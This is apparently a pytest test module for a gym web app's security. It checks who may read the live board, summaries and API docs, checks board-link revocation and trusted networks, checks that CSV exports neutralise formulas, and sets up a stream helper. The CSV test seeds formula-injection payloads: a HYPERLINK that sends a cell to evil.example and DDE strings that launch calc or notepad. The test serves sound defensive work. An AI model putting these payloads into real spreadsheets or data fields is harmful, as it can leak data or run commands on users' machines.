"""Security of the web app against a real ``gympulse web`` process (issue 10): who may read
the live board, the class summaries and the API docs; CSV exports that run no formulas;
streams that end when their credential goes; login throttling; sessions that end with a
password change; a server that stays responsive while the database is locked."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from gympulse import contract
from gympulse.pipeline.journal import Journal
from tests.support.procs import Mosquitto
from tests.test_web_support import CSRF_RE, Seeded, board_token, seed_history, web_server

pytestmark = pytest.mark.slow
DAY_MS = 86_400_000


def cli(db: Path, *args: str, env: dict[str, str] | None = None) -> str:
    """Run ``gympulse ARGS`` on ``db``; returns its stdout (the command must succeed)."""
    done = subprocess.run(
        [sys.executable, "-m", "gympulse.cli", *args],
        env={**os.environ, "GYMPULSE_STORE__PATH": str(db), **(env or {})},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def client(base: str, source: str = "127.0.0.1") -> httpx.Client:
    """A browser-like client (own cookie jar) connecting from ``source``."""
    transport = httpx.HTTPTransport(local_address=source)
    return httpx.Client(base_url=base, transport=transport, timeout=30, follow_redirects=False)


def csrf(html: str) -> str:
    found = CSRF_RE.search(html)
    assert found is not None
    return found.group(1)


def try_login(c: httpx.Client, user: str, password: str) -> httpx.Response:
    form = c.get("/coach/login")
    data = {"username": user, "password": password, "csrf": csrf(form.text)}
    return c.post("/coach/login", data=data)


def login(c: httpx.Client, user: str, password: str) -> str:
    """Log in; returns the CSRF token of the session's forms."""
    response = try_login(c, user, password)
    assert response.status_code == 303 and response.headers["location"] == "/coach"
    return csrf(c.get("/coach").text)


@pytest.fixture
def seeded(tmp_path: Path) -> Seeded:
    return seed_history(tmp_path / "gympulse.db")


@pytest.fixture
def server(mosquitto: Mosquitto, seeded: Seeded) -> Iterator[str]:
    with web_server(mosquitto.url, seeded.db) as base:
        yield base


# ---------------------------------------------------------------------- item 3


def test_live_board_summaries_and_docs_need_their_credential(
    mosquitto: Mosquitto, seeded: Seeded, server: str, tmp_path: Path
) -> None:
    journal = Journal(seeded.db)
    now = contract.now_ms()
    yesterday = journal.add_class("Yesterday's HIIT", now - DAY_MS - 3_600_000, now - DAY_MS)
    today = journal.add_class("Spinning", now - 600_000, now + 600_000)
    journal.close()
    board = ("/live", "/api/live/snapshot", "/api/live/summary", "/api/live/class")

    anonymous = client(server)
    for path in (*board, "/api/live/stream", "/openapi.json", "/api/live/summary?class_id=1"):
        assert anonymous.get(path).status_code == 403, path
    for path in ("/docs", "/redoc"):
        assert anonymous.get(path).headers["location"] == "/coach/login", path
    assert anonymous.get("/board/made-up-token").status_code == 404

    # The gym's TV: a board link from the CLI; the browser remembers it in a cookie.
    out = cli(seeded.db, "board", "link", "--label", "hall TV", "--base-url", server)
    found = re.search(r"Board link #(\d+): (\S+)", out)
    assert found is not None
    link_id, link = found.groups()
    tv = client(server)
    opened = tv.get(link.removeprefix(server))
    assert opened.headers["location"] == "/live"
    for path in board:
        assert tv.get(path).status_code == 200, path
    assert tv.get(f"/api/live/summary?class_id={today}").status_code == 200
    assert tv.get(f"/api/live/summary?class_id={yesterday}").status_code == 403  # the past
    assert tv.get("/openapi.json").status_code == 403
    assert tv.get("/api/coach/squad").status_code == 403

    # The coach sees the past classes and the API docs.
    coach = client(server)
    login(coach, seeded.coach_user, seeded.coach_password)
    assert coach.get(f"/api/live/summary?class_id={yesterday}").status_code == 200
    assert "/api/live/snapshot" in coach.get("/openapi.json").json()["paths"]
    assert coach.get("/docs").status_code == 200 and coach.get("/redoc").status_code == 200
    assert coach.get("/api/live/snapshot").status_code == 200

    # Revoked (by another process): the TV's link opens nothing any more.
    cli(seeded.db, "board", "revoke", link_id)
    assert tv.get("/api/live/snapshot").status_code == 403
    assert tv.get(link.removeprefix(server)).status_code == 404


def test_trusted_network_opens_the_board_only(
    mosquitto: Mosquitto, seeded: Seeded, tmp_path: Path
) -> None:
    config = tmp_path / "gympulse.toml"
    config.write_text('[web]\nboard_trusted_networks = ["127.0.0.0/30"]\n')
    with web_server(mosquitto.url, seeded.db, config=config) as base:
        inside, outside = client(base, "127.0.0.2"), client(base, "127.0.0.9")
        assert inside.get("/api/live/snapshot").status_code == 200
        assert inside.get("/live").status_code == 200
        assert outside.get("/api/live/snapshot").status_code == 403
        # The trusted network opens today's board, nothing else.
        assert inside.get("/api/live/summary?class_id=1").status_code == 403
        assert inside.get("/openapi.json").status_code == 403
        assert inside.get("/api/coach/squad").status_code == 403


# ---------------------------------------------------------------------- item 8

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_exports_run_no_formulas(seeded: Seeded, server: str) -> None:
    coach = client(server)
    token = login(coach, seeded.coach_user, seeded.coach_password)
    name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    alias = "@SUM(1+1)*cmd|' /C calc'!A0"
    klass = "+cmd|' /C notepad'!A0"
    tabbed = "\t=1+2"
    forms = [
        ("/coach/admin/athletes", {"name": name}),
        ("/coach/admin/athletes", {"name": tabbed}),
        ("/coach/admin/straps", {"sensor": "strap-66", "label": alias}),
        ("/coach/admin/classes", {"name": klass, "start": "2026-01-05T10:00", "minutes": "45"}),
        ("/coach/admin/classes", {"name": "-2+3", "start": "2026-01-06T10:00", "minutes": "45"}),
    ]
    for path, data in forms:
        assert coach.post(path, data=data | {"csrf": token}).status_code == 303, path
    cells: list[str] = []
    for table in ("athletes", "sensors", "classes"):
        response = coach.get(f"/coach/export/{table}.csv")
        assert response.status_code == 200
        for row in csv.reader(io.StringIO(response.text)):
            cells.extend(row)
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    for text in (name, alias, klass, tabbed, "-2+3"):
        assert "'" + text in cells, text  # kept, shown as text
    assert "Alice" in cells  # ordinary cells untouched


# ---------------------------------------------------------------------- helpers for streams


class Stream:
    """An SSE connection read in a thread: ``ended`` is set when the server closes it."""

    def __init__(self, c: httpx.Client, path: str) -> None:
        self.ended = threading.Event()
        self.opened = threading.Event()
        self.status = 0
        self.lines = 0
        self._thread = threading.Thread(target=self._read, args=(c, path), daemon=True)
        self._thread.start()
        assert self.opened.wait(10)

    def _read(self, c: httpx.Client, path: str) -> None:
        try:
            with c.stream("GET", path, timeout=httpx.Timeout(60, read=60)) as response:
                self.status = response.status_code
                self.opened.set()
                for _ in response.iter_lines():
                    self.lines += 1
        except httpx.HTTPError:
            pass
        finally:
            self.opened.set()
            self.ended.set()

    def ended_within(self, seconds: float) -> float | None:
        """Seconds until the server ended the stream, None if it did not in ``seconds``."""
        t0 = time.monotonic()
        return time.monotonic() - t0 if self.ended.wait(seconds) else None


def _board_cookie(c: httpx.Client, db: Path) -> None:
    assert c.get(f"/board/{board_token(db)}").status_code == 303
